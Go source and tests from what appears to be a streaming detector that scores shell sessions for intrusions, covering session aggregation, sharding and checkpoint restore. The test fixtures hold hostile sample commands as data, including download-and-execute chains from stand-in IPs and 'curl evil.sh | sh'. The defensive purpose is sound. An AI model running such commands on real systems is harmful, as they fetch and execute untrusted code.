			ContextScore: ctxScore,
			SessionLines: p.idx - p.lo + 1,
		}
		if p.ctx != p.raw {
			v.Context = p.ctxS
		}
		v.SessionScore = d.aggregate(p.sess.entries[p.lo : p.idx+1])
		if d.cfg.LineThreshold > 0 && v.LineScore >= d.cfg.LineThreshold {
			v.LineAlert = true
			d.stats.LineAlerts++
		}
		if d.cfg.SessionThreshold > 0 && v.SessionScore >= d.cfg.SessionThreshold {
			v.SessionAlert = true
			d.stats.SessionAlerts++
		}
		out[i] = v
	}

	// Trim windows the batch grew past the cap (deferred so within-batch
	// snapshots kept stable indices). The shift is in place — snapshots
	// are not read after this point — so a saturated session reuses its
	// backing array instead of allocating per event.
	for _, p := range b.pend {
		if over := len(p.sess.entries) - d.cfg.MaxSessionLines; over > 0 {
			n := copy(p.sess.entries, p.sess.entries[over:])
			p.sess.entries = p.sess.entries[:n]
		}
	}
	d.mu.Unlock()
	b.finished = true
	d.procMu.Unlock()
	return out
}

// contextJoin builds the §IV-C multi-line input for the entry at idx: up
// to ContextWindow-1 preceding window lines whose consecutive gaps stay
// within ContextGap, joined with the shell separator — the online
// equivalent of tuning.BuildContexts.
func (d *Detector) contextJoin(sess *session, idx int) string {
	if d.cfg.ContextWindow <= 1 {
		return sess.entries[idx].line
	}
	// Context never reaches past the sliding window: lines evicted by the
	// max-length cap are gone for context purposes too.
	floor := idx + 1 - d.cfg.MaxSessionLines
	if floor < 0 {
		floor = 0
	}
	lo := idx
	last := sess.entries[idx].time
	for lo > floor && idx-lo < d.cfg.ContextWindow-1 {
		if last-sess.entries[lo-1].time > d.cfg.ContextGap {
			break
		}
		lo--
		last = sess.entries[lo].time
	}
	if lo == idx {
		return sess.entries[idx].line
	}
	parts := make([]string, 0, idx-lo+1)
	for k := lo; k <= idx; k++ {
		parts = append(parts, sess.entries[k].line)
	}
	return strings.Join(parts, " ; ")
}

// aggregate folds window scores into the session score.
func (d *Detector) aggregate(window []entry) float64 {
	switch d.cfg.Aggregation {
	case AggMean:
		sum := 0.0
		for _, e := range window {
			sum += e.score
		}
		return sum / float64(len(window))
	case AggDecay:
		w, num, den := 1.0, 0.0, 0.0
		for k := len(window) - 1; k >= 0; k-- {
			num += w * window[k].score
			den += w
			w *= d.cfg.Decay
		}
		return num / den
	default: // AggMax
		best := window[0].score
		for _, e := range window[1:] {
			if e.score > best {
				best = e.score
			}
		}
		return best
	}
}

// SwapScorer atomically replaces the detector's scorer, tagging it with an
// artifact version (surfaced in Stats). It acquires the pipeline mutex, so
// it waits for any in-flight Process batch to commit and the next batch
// scores entirely on the new scorer — no event is ever scored half-old /
// half-new, and nothing queued is dropped. Session state (windows,
// aggregates, counters) is deliberately kept: scores already committed
// under the old scorer stay in their windows, exactly as a drift-refresh
// deployment wants.
//
// The swap is off the hot path: callers should finish the expensive part —
// loading and replicating the new scorer — before calling.
func (d *Detector) SwapScorer(s tuning.Scorer, version string) {
	d.procMu.Lock()
	// Both locks: Process reads the scorer under procMu, while off-path
	// readers (Stats' cache probe) read it under the state lock.
	d.mu.Lock()
	d.scorer = s
	d.version = version
	d.mu.Unlock()
	d.procMu.Unlock()
}

// scorerRef returns the active scorer under the state lock — the accessor
// for readers outside the Process pipeline, which must not race a
// SwapScorer in flight.
func (d *Detector) scorerRef() tuning.Scorer {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.scorer
}

// ScorerVersion returns the active scorer's artifact version.
func (d *Detector) ScorerVersion() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.version
}

// SetModality stamps the log modality the detector serves (surfaced in
// Stats). Unlike the version it never changes over a detector's life:
// hot-reload rejects modality-mismatched bundles before any swap.
func (d *Detector) SetModality(m string) {
	d.mu.Lock()
	d.modality = m
	d.mu.Unlock()
}

// Modality returns the stamped log modality.
func (d *Detector) Modality() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.modality
}

// EvictIdle removes sessions whose last event is more than IdleTimeout
// seconds before now, bounding memory across a large user population, and
// returns how many were evicted. Services call it periodically with the
// stream's high-water event time.
func (d *Detector) EvictIdle(now int64) int {
	d.mu.Lock()
	defer d.mu.Unlock()
	n := 0
	for user, sess := range d.sessions {
		if now-sess.last > d.cfg.IdleTimeout {
			delete(d.sessions, user)
			n++
		}
	}
	d.stats.SessionsEvicted += int64(n)
	return n
}

// HighWater returns the latest event time seen, the clock EvictIdle
// sweeps should use: on live traffic it tracks wall time, on replayed or
// backfilled streams it keeps historical sessions alive instead of
// evicting them against the real clock.
func (d *Detector) HighWater() int64 {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.highWater
}

// Stats returns a counter snapshot.
func (d *Detector) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	s := d.stats
	s.ActiveSessions = len(d.sessions)
	s.ScorerVersion = d.version
	s.Modality = d.modality
	s.QuarantineSample = append([]string(nil), d.quarSamples...)
	if cs, ok := d.scorer.(tuning.CascadeStatser); ok {
		snap := cs.CascadeStats()
		s.Cascade = &snap
	}
	return s
}

// Config returns the detector's resolved configuration.
func (d *Detector) Config() Config { return d.cfg }
