package stream

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/corpus"
	"clmids/internal/model"
	"clmids/internal/pretrain"
	"clmids/internal/tuning"
)

// chainFixture is a small end-to-end stack: a generated corpus with
// multi-line attack chains, a pre-trained encoder, and a multi-line
// classifier (§IV-C) trained on context-joined inputs with ground-truth
// supervision.
type chainFixture struct {
	scorer tuning.Scorer
	test   *corpus.Dataset
}

var (
	chainOnce sync.Once
	chainFix  *chainFixture
	chainErr  error
)

func buildChainFixture() (*chainFixture, error) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 900
	ccfg.TestLines = 500
	ccfg.Users = 12
	ccfg.IntrusionRate = 0.35
	ccfg.OutOfBoxFrac = 0.8 // chains are out-of-box variants
	ccfg.Seed = 7
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		return nil, err
	}

	// Context-joined training inputs (§IV-C) with ground-truth labels.
	items := make([]tuning.TimedLine, len(train.Samples))
	labels := make([]bool, len(train.Samples))
	for i, s := range train.Samples {
		items[i] = tuning.TimedLine{User: s.User, Time: s.Time, Line: s.Line}
		labels[i] = s.Label == corpus.Intrusion
	}
	// Multi-line chains are rare in a single generated split (they are one
	// out-of-box variant of one family), so oversample them the way the
	// paper's supervision would accumulate over a 30M-line log: replayed
	// chain sessions from the corpus's download_exec shape, plus benign
	// contrast sessions where the same interpreter runs in innocent
	// context.
	rng := rand.New(rand.NewSource(7))
	clock := items[len(items)-1].Time
	aug := func(user string, gap int64, line string, y bool) {
		clock += gap
		items = append(items, tuning.TimedLine{User: user, Time: clock, Line: line})
		labels = append(labels, y)
	}
	for i := 0; i < 80; i++ {
		user := []string{"augA", "augB", "augC", "augD"}[i%4]
		switch i % 4 {
		case 0: // benign download-then-extract from a mirror host
			aug(user, 700, fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
			aug(user, 5, "tar -xzf pkg.tar.gz", false)
		case 1: // benign resumable direct-IP download: the wget shape of the
			// chain, renamed to a data file and never executed
			aug(user, 700, fmt.Sprintf("wget -c http://203.0.113.%d/%x -o data.bin", 1+rng.Intn(250), rng.Intn(1<<16)), false)
			aug(user, 5, "tar -xf data.bin", false)
		case 2: // benign interpreter use in benign context
			aug(user, 700, "cd /srv/deploy", false)
			aug(user, 5, "python", false)
		default: // the corpus attack chain (attacks.go download_exec, out-of-box)
			aug(user, 700, "cd /srv/deploy", false)
			aug(user, 5, fmt.Sprintf("wget -c http://203.0.113.%d/%x -o python", 1+rng.Intn(250), rng.Intn(1<<16)), true)
			aug(user, 5, "python", true)
		}
	}
	contexts := tuning.BuildContexts(items, tuning.DefaultContextConfig())

	// Pre-train on raw lines plus the joined contexts, so "a ; b" inputs
	// are in-distribution for the encoder.
	pretrainLines := append(append([]string(nil), train.Lines()...), contexts...)
	tok, err := bpe.Train(pretrainLines, bpe.TrainConfig{VocabSize: 500})
	if err != nil {
		return nil, err
	}
	mcfg := model.Config{
		VocabSize: tok.VocabSize(), MaxSeqLen: 64, Hidden: 32, Layers: 1,
		Heads: 2, FFN: 64, LayerNormEps: 1e-5, Dropout: 0.0,
	}
	mdl, err := model.NewModel(mcfg, rand.New(rand.NewSource(7)))
	if err != nil {
		return nil, err
	}
	seqs := make([][]int, len(pretrainLines))
	for i, l := range pretrainLines {
		seqs[i] = tok.EncodeForModel(l, mcfg.MaxSeqLen)
	}
	pcfg := pretrain.DefaultConfig()
	pcfg.Epochs = 2
	pcfg.BatchSize = 16
	pcfg.LR = 1e-3
	if _, err := pretrain.Run(mdl, seqs, pcfg); err != nil {
		return nil, err
	}

	clfCfg := tuning.DefaultClassifierConfig()
	clfCfg.Epochs = 10
	clfCfg.Seed = 5
	clfCfg.MeanPoolFeatures = true // small encoders have weak [CLS] summaries
	clf, err := tuning.TrainClassifier(mdl.Encoder, tok, contexts, labels, clfCfg)
	if err != nil {
		return nil, err
	}
	return &chainFixture{scorer: clf, test: test}, nil
}

func getChainFixture(t *testing.T) *chainFixture {
	t.Helper()
	if testing.Short() {
		t.Skip("chain fixture trains a model; skipped in -short")
	}
	chainOnce.Do(func() { chainFix, chainErr = buildChainFixture() })
	if chainErr != nil {
		t.Fatalf("chain fixture: %v", chainErr)
	}
	return chainFix
}

// findChain returns the events of the first multi-line attack chain in the
// test split (corpus chains share a nonzero ChainID).
func findChain(t *testing.T, ds *corpus.Dataset) []Event {
	t.Helper()
	for i, s := range ds.Samples {
		if s.ChainID == 0 {
			continue
		}
		var evs []Event
		for j := i; j < len(ds.Samples) && ds.Samples[j].ChainID == s.ChainID; j++ {
			evs = append(evs, Event{User: ds.Samples[j].User, Time: ds.Samples[j].Time, Line: ds.Samples[j].Line})
		}
		if len(evs) < 2 {
			t.Fatalf("chain %d has %d lines", s.ChainID, len(evs))
		}
		return evs
	}
	t.Fatal("no multi-line attack chain in test split")
	return nil
}

// TestSessionCatchesChainPerLineMisses is the tentpole acceptance test:
// a multi-line attack chain from internal/corpus/attacks.go whose
// individual lines score below threshold must still be flagged at the
// session level, because the detector scores the context-joined window
// (§IV-C online) and aggregates over the session.
func TestSessionCatchesChainPerLineMisses(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)

	// Per-line scores: what a line-at-a-time detector would see.
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine := perLine[0]
	for _, v := range perLine[1:] {
		if v > maxPerLine {
			maxPerLine = v
		}
	}

	// Session-level scores through the streaming detector.
	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	vs, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxSession := 0.0
	for _, v := range vs {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	t.Logf("chain %q: max per-line %.4f, max session %.4f", lines, maxPerLine, maxSession)
	if maxSession <= maxPerLine {
		t.Fatalf("session score %.4f does not exceed best per-line score %.4f", maxSession, maxPerLine)
	}

	// With one threshold between the two, per-line detection misses every
	// chain line while the session alarm fires — the serving win.
	thr := (maxPerLine + maxSession) / 2
	cfg.LineThreshold = thr
	cfg.SessionThreshold = thr
	det = NewDetector(f.scorer, cfg)
	vs, err = det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	sessionAlerted := false
	for _, v := range vs {
		if v.LineAlert {
			t.Fatalf("line alert fired on %q (score %.4f, threshold %.4f)", v.Line, v.LineScore, thr)
		}
		if v.SessionAlert {
			sessionAlerted = true
		}
	}
	if !sessionAlerted {
		t.Fatal("session alarm did not fire on the attack chain")
	}
	if st := det.Stats(); st.SessionAlerts == 0 || st.LineAlerts != 0 {
		t.Fatalf("stats: %+v", st)
	}
}

// TestSessionCatchesChainUnderSharding: the chain-catch property must
// survive sharding at the same threshold. The detector is sharded four
// ways over replicas of the trained classifier (shared frozen backbone and
// head, per-shard engines); the chain's user hashes to one shard, so its
// verdicts — and the alert decision — are byte-identical to the unsharded
// detector's.
func TestSessionCatchesChainUnderSharding(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}

	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	want, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine, maxSession := perLine[0], 0.0
	for _, v := range perLine {
		if v > maxPerLine {
			maxPerLine = v
		}
	}
	for _, v := range want {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	thr := (maxPerLine + maxSession) / 2

	cfg.LineThreshold = thr
	cfg.SessionThreshold = thr
	scorers, err := tuning.Replicas(f.scorer, 4)
	if err != nil {
		t.Fatal(err)
	}
	sharded, err := NewShardedDetector(scorers, cfg)
	if err != nil {
		t.Fatal(err)
	}
	unsharded := NewDetector(f.scorer, cfg)
	wantAlert, err := unsharded.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	got, err := sharded.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	sessionAlerted := false
	for i, v := range got {
		if v != wantAlert[i] {
			t.Fatalf("event %d: sharded verdict %+v, unsharded %+v", i, v, wantAlert[i])
		}
		if v.LineAlert {
			t.Fatalf("line alert fired under sharding on %q (score %.4f, threshold %.4f)", v.Line, v.LineScore, thr)
		}
		if v.SessionAlert {
			sessionAlerted = true
		}
	}
	if !sessionAlerted {
		t.Fatal("session alarm did not fire on the attack chain under sharding")
	}
	if st := sharded.Stats(); st.SessionAlerts == 0 || st.LineAlerts != 0 {
		t.Fatalf("sharded stats: %+v", st)
	}
}

// TestBenignSessionStaysQuiet: the same detector over benign test traffic
// must not alert at the chain test's operating point on most sessions —
// a soft false-positive check (routine benign lines only, excluding the
// generator's deliberate weird/garbage outliers).
func TestBenignSessionStaysQuiet(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}

	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	vs, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine, maxSession := perLine[0], 0.0
	for _, v := range perLine {
		if v > maxPerLine {
			maxPerLine = v
		}
	}
	for _, v := range vs {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	thr := (maxPerLine + maxSession) / 2

	var benign []Event
	for _, s := range f.test.Samples {
		if s.Label == corpus.Benign && s.Family == "routine" {
			benign = append(benign, Event{User: s.User, Time: s.Time, Line: s.Line})
		}
	}
	cfg.SessionThreshold = thr
	quiet := NewDetector(f.scorer, cfg)
	bvs, err := quiet.Process(benign)
	if err != nil {
		t.Fatal(err)
	}
	alerts := 0
	for _, v := range bvs {
		if v.SessionAlert {
			alerts++
		}
	}
	if frac := float64(alerts) / float64(len(bvs)); frac > 0.10 {
		t.Fatalf("benign session alert rate %.1f%% (%d/%d) at chain threshold %.4f",
			100*frac, alerts, len(bvs), thr)
	}
}
