package stream

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// slowScorer blocks until released, so tests can pile up queued requests.
// An optional entered channel (buffered, non-blocking send) lets a test
// wait until the worker is actually inside Score.
type slowScorer struct {
	gate    chan struct{}
	entered chan struct{}
	calls   atomic.Int64
}

func (s *slowScorer) Score(lines []string) ([]float64, error) {
	s.calls.Add(1)
	if s.entered != nil {
		select {
		case s.entered <- struct{}{}:
		default:
		}
	}
	<-s.gate
	return make([]float64, len(lines)), nil
}

// TestServiceDrainOnClose: every request accepted before Close gets its
// verdicts; Submit after Close is refused.
func TestServiceDrainOnClose(t *testing.T) {
	det := NewDetector(&stubScorer{def: 0.1}, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 8, BatchEvents: 16})

	const producers = 6
	const perProducer = 20
	var wg sync.WaitGroup
	var delivered atomic.Int64
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				evts := []Event{ev(fmt.Sprintf("u%d", p), int64(i), fmt.Sprintf("cmd %d", i))}
				vs, err := svc.Submit(evts)
				if err != nil {
					return // closed mid-stream: acceptable for this test
				}
				if len(vs) != 1 {
					t.Errorf("got %d verdicts for 1 event", len(vs))
					return
				}
				delivered.Add(1)
			}
		}(p)
	}
	wg.Wait()
	svc.Close()
	if got := delivered.Load(); got != producers*perProducer {
		t.Fatalf("delivered %d, want %d", got, producers*perProducer)
	}
	if st := svc.Stats(); st.Events != producers*perProducer {
		t.Fatalf("events processed %d, want %d", st.Events, producers*perProducer)
	}
	if _, err := svc.Submit([]Event{ev("u", 1, "x")}); err != ErrClosed {
		t.Fatalf("Submit after Close: %v, want ErrClosed", err)
	}
	svc.Close() // idempotent
}

// TestServiceBackpressureAndDrain: with the worker blocked, the bounded
// queue fills and a further Submit blocks instead of growing memory; once
// the worker is released and the service closed, every queued request is
// answered (graceful drain).
func TestServiceBackpressureAndDrain(t *testing.T) {
	scorer := &slowScorer{gate: make(chan struct{})}
	det := NewDetector(scorer, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 2, BatchEvents: 1})

	var replies atomic.Int64
	var wg sync.WaitGroup
	submit := func(i int) {
		defer wg.Done()
		if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err == nil {
			replies.Add(1)
		}
	}
	// 1 in the worker + 2 in the queue + 1 blocked on the full queue.
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go submit(i)
	}
	deadline := time.After(2 * time.Second)
	for svc.Stats().QueueDepth < 2 {
		select {
		case <-deadline:
			t.Fatalf("queue depth %d never reached bound 2", svc.Stats().QueueDepth)
		case <-time.After(time.Millisecond):
		}
	}
	if got := replies.Load(); got != 0 {
		t.Fatalf("%d replies before the worker was released", got)
	}
	close(scorer.gate) // release the worker
	wg.Wait()
	svc.Close()
	if got := replies.Load(); got != 4 {
		t.Fatalf("replies %d, want 4 (drain must answer every accepted request)", got)
	}
}

// TestServiceCoalescing: queued single-event requests merge into one
// Detector.Process (and so one Score call).
func TestServiceCoalescing(t *testing.T) {
	scorer := &slowScorer{gate: make(chan struct{}), entered: make(chan struct{}, 1)}
	det := NewDetector(scorer, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 16, BatchEvents: 64})

	var wg sync.WaitGroup
	submit := func(i int) {
		defer wg.Done()
		if _, err := svc.Submit([]Event{ev("u", int64(i), fmt.Sprintf("c%d", i))}); err != nil {
			t.Errorf("submit: %v", err)
		}
	}
	// Land the first request in the worker alone: wait until the scorer is
	// inside Score before submitting the rest, so they are guaranteed to
	// queue behind it instead of riding along in its batch.
	wg.Add(1)
	go submit(0)
	select {
	case <-scorer.entered:
	case <-time.After(5 * time.Second):
		t.Fatal("worker never entered Score")
	}
	for i := 1; i < 9; i++ {
		wg.Add(1)
		go submit(i)
	}
	// Wait until the other eight are queued behind the blocked worker.
	deadline := time.After(5 * time.Second)
	for svc.Stats().QueueDepth < 8 {
		select {
		case <-deadline:
			t.Fatalf("queue depth %d never reached 8", svc.Stats().QueueDepth)
		case <-time.After(time.Millisecond):
		}
	}
	close(scorer.gate)
	wg.Wait()
	svc.Close()
	// First call carried 1 event; the second coalesced the 8 queued ones.
	if calls := scorer.calls.Load(); calls != 2 {
		t.Fatalf("Score calls = %d, want 2 (coalescing)", calls)
	}
}
