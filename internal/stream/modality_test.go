package stream

import (
	"testing"

	"clmids/internal/tuning"
)

// TestModalityStamp: the served modality stamps detector stats, propagates
// to every shard of a sharded detector, and survives a scorer hot-swap —
// reloads reject cross-modality bundles before the swap, so the stamp is
// stable for the life of the service.
func TestModalityStamp(t *testing.T) {
	d := NewDetector(&genScorer{gen: 1}, DefaultConfig())
	if got := d.Stats().Modality; got != "" {
		t.Fatalf("fresh detector modality %q, want empty", got)
	}
	d.SetModality("powershell")
	if got := d.Stats().Modality; got != "powershell" {
		t.Fatalf("detector stats modality %q, want powershell", got)
	}
	if got := d.Modality(); got != "powershell" {
		t.Fatalf("detector modality %q, want powershell", got)
	}

	scorers := make([]tuning.Scorer, 3)
	for i := range scorers {
		scorers[i] = &genScorer{gen: 1}
	}
	sd, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	sd.SetModality("flows")
	if got := sd.Modality(); got != "flows" {
		t.Fatalf("sharded modality %q, want flows", got)
	}
	for i := 0; i < sd.Shards(); i++ {
		if got := sd.Shard(i).Stats().Modality; got != "flows" {
			t.Fatalf("shard %d modality %q, want flows", i, got)
		}
	}
	if got := sd.Stats().Modality; got != "flows" {
		t.Fatalf("aggregate stats modality %q, want flows", got)
	}

	// A scorer swap changes the version, never the modality.
	if err := sd.SwapScorer(&genScorer{gen: 2}, "v2"); err != nil {
		t.Fatal(err)
	}
	if got := sd.Stats().Modality; got != "flows" {
		t.Fatalf("post-swap modality %q, want flows", got)
	}

	svc := NewShardedService(sd, ServiceConfig{QueueRequests: 2, BatchEvents: 16})
	defer svc.Close()
	if got := svc.Modality(); got != "flows" {
		t.Fatalf("service modality %q, want flows", got)
	}
	if got := svc.Stats().Modality; got != "flows" {
		t.Fatalf("service stats modality %q, want flows", got)
	}
}
