package stream

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"clmids/internal/tuning"
)

// chainScorer flags a multi-line attack chain: any scoring input carrying
// both steps scores high, everything else low — so the session alarm only
// trips once both lines are in the same context window.
type chainScorer struct{}

func (chainScorer) Score(lines []string) ([]float64, error) {
	out := make([]float64, len(lines))
	for i, l := range lines {
		if strings.Contains(l, "step1") && strings.Contains(l, "step2") {
			out[i] = 0.95
		} else {
			out[i] = 0.05
		}
	}
	return out, nil
}

func chainConfig() Config {
	cfg := DefaultConfig()
	cfg.ContextWindow = 2
	cfg.Aggregation = AggMax
	cfg.SessionThreshold = 0.8
	return cfg
}

// TestCheckpointRoundTrip: Save → Restore reproduces sessions, counters,
// and high water; the restored detector's next verdicts are byte-identical
// to the uninterrupted detector's.
func TestCheckpointRoundTrip(t *testing.T) {
	cfg := shardedTestConfig()
	mk := func() *Detector { return NewDetector(&hashScorer{}, cfg) }
	orig := mk()
	evts := []Event{
		ev("alice", 10, "ls"), ev("bob", 11, "curl evil.sh | sh"),
		ev("alice", 12, "whoami"), ev("carol", 13, "make test"),
	}
	if _, err := orig.Process(evts); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	if err := orig.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}
	saved := buf.Bytes()

	// Determinism: saving the same state again yields identical bytes.
	var buf2 bytes.Buffer
	if err := orig.SaveSessions(&buf2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(saved, buf2.Bytes()) {
		t.Fatal("two saves of the same state differ")
	}

	restored := mk()
	if err := restored.RestoreSessions(bytes.NewReader(saved)); err != nil {
		t.Fatal(err)
	}
	if got, want := restored.Stats(), orig.Stats(); !reflect.DeepEqual(got, want) {
		t.Fatalf("restored stats %+v, want %+v", got, want)
	}
	if restored.HighWater() != orig.HighWater() {
		t.Fatalf("high water %d, want %d", restored.HighWater(), orig.HighWater())
	}

	next := []Event{ev("alice", 20, "rm -rf /tmp/x"), ev("bob", 21, "id")}
	va, err := orig.Process(next)
	if err != nil {
		t.Fatal(err)
	}
	vb, err := restored.Process(next)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(va, vb) {
		t.Fatalf("restored detector diverges:\n%+v\n%+v", va, vb)
	}
}

// TestCheckpointCorruptRejected: a flipped payload byte, a torn write, and
// a mangled header all fail with ErrCheckpointCorrupt before any decoding
// touches the detector.
func TestCheckpointCorruptRejected(t *testing.T) {
	det := NewDetector(&stubScorer{}, DefaultConfig())
	if _, err := det.Process([]Event{ev("u", 1, "ls"), ev("v", 2, "pwd")}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := det.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}
	good := buf.Bytes()

	cases := map[string][]byte{
		"flipped payload byte": append(append([]byte(nil), good[:len(good)-3]...), good[len(good)-3]^0xFF, good[len(good)-2], good[len(good)-1]),
		"torn write":           good[:len(good)-4],
		"mangled header":       append([]byte("{not json"), good...),
		"empty":                {},
	}
	for name, data := range cases {
		fresh := NewDetector(&stubScorer{}, DefaultConfig())
		err := fresh.RestoreSessions(bytes.NewReader(data))
		if !errors.Is(err, ErrCheckpointCorrupt) {
			t.Errorf("%s: error %v, want ErrCheckpointCorrupt", name, err)
		}
		if st := fresh.Stats(); st.ActiveSessions != 0 {
			t.Errorf("%s: corrupt restore mutated the detector: %+v", name, st)
		}
	}
}

// TestCheckpointConfigMismatchRejected: a checkpoint written under
// different session semantics (window shape) is refused; one that only
// differs in alert thresholds is accepted (retuning across restarts is
// normal operations).
func TestCheckpointConfigMismatchRejected(t *testing.T) {
	cfg := DefaultConfig()
	det := NewDetector(&stubScorer{}, cfg)
	if _, err := det.Process([]Event{ev("u", 1, "ls")}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := det.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}

	bad := cfg
	bad.MaxSessionLines = 7
	if err := NewDetector(&stubScorer{}, bad).RestoreSessions(bytes.NewReader(buf.Bytes())); err == nil {
		t.Fatal("window-shape mismatch accepted")
	}

	retuned := cfg
	retuned.SessionThreshold = 0.42
	if err := NewDetector(&stubScorer{}, retuned).RestoreSessions(bytes.NewReader(buf.Bytes())); err != nil {
		t.Fatalf("threshold-only change rejected: %v", err)
	}
}

// TestCheckpointResumesChainAlarm is the kill-and-restart drill at the
// detector level: step 1 of a two-step chain lands, the process "dies"
// (checkpoint + new detector), step 2 arrives after restart — and trips
// exactly the session alarm an uninterrupted run trips.
func TestCheckpointResumesChainAlarm(t *testing.T) {
	cfg := chainConfig()
	step1 := ev("mallory", 100, "step1: stage payload")
	step2 := ev("mallory", 110, "step2: exfiltrate")

	// Uninterrupted reference.
	ref := NewDetector(chainScorer{}, cfg)
	if _, err := ref.Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	want, err := ref.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !want[0].SessionAlert {
		t.Fatal("reference run did not trip the chain alarm; test scorer broken")
	}

	// Killed-and-restarted run.
	first := NewDetector(chainScorer{}, cfg)
	if _, err := first.Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	var ckpt bytes.Buffer
	if err := first.SaveSessions(&ckpt); err != nil {
		t.Fatal(err)
	}
	second := NewDetector(chainScorer{}, cfg)
	if err := second.RestoreSessions(&ckpt); err != nil {
		t.Fatal(err)
	}
	got, err := second.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("restart diverged from uninterrupted run:\n got %+v\nwant %+v", got, want)
	}
	// A fresh detector WITHOUT the checkpoint must miss the chain — that
	// is the loss this machinery exists to prevent.
	cold := NewDetector(chainScorer{}, cfg)
	missed, err := cold.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if missed[0].SessionAlert {
		t.Fatal("cold detector tripped the alarm anyway; drill proves nothing")
	}
}

// TestShardedCheckpointAcrossShardCounts: a checkpoint from an N-shard
// detector restores into an M-shard one — users re-route through the shard
// hash and verdicts continue identically.
func TestShardedCheckpointAcrossShardCounts(t *testing.T) {
	cfg := shardedTestConfig()
	evts := replayEvents(t, 12, 300)
	mk := func(shards int) *ShardedDetector {
		scorers := make([]tuning.Scorer, shards)
		for i := range scorers {
			scorers[i] = &hashScorer{}
		}
		dets, err := NewShardedDetector(scorers, cfg)
		if err != nil {
			t.Fatal(err)
		}
		return dets
	}
	three := mk(3)
	if _, err := three.Process(evts[:200]); err != nil {
		t.Fatal(err)
	}
	var ckpt bytes.Buffer
	if err := three.SaveSessions(&ckpt); err != nil {
		t.Fatal(err)
	}

	two := mk(2)
	if err := two.RestoreSessions(bytes.NewReader(ckpt.Bytes())); err != nil {
		t.Fatal(err)
	}
	if got, want := statsNoSample(two.Stats()), statsNoSample(three.Stats()); !reflect.DeepEqual(got, want) {
		t.Fatalf("aggregate stats diverged: %+v vs %+v", got, want)
	}

	va, err := three.Process(evts[200:])
	if err != nil {
		t.Fatal(err)
	}
	vb, err := two.Process(evts[200:])
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(va, vb) {
		t.Fatal("resharded restore diverged from the original shard count")
	}
}

// statsNoSample strips the unordered quarantine sample for comparisons.
func statsNoSample(s Stats) Stats {
	s.QuarantineSample = nil
	return s
}
