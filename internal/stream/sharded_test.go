package stream

import (
	"fmt"
	"hash/fnv"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clmids/internal/corpus"
	"clmids/internal/tuning"
)

// hashScorer scores deterministically by line hash — independent instances
// on different shards return byte-identical scores for the same line, like
// scorer replicas over shared frozen weights do.
type hashScorer struct {
	calls atomic.Int64
}

func (h *hashScorer) Score(lines []string) ([]float64, error) {
	h.calls.Add(1)
	out := make([]float64, len(lines))
	for i, l := range lines {
		hh := fnv.New64a()
		hh.Write([]byte(l))
		out[i] = float64(hh.Sum64()%1000003) / 1000003
	}
	return out, nil
}

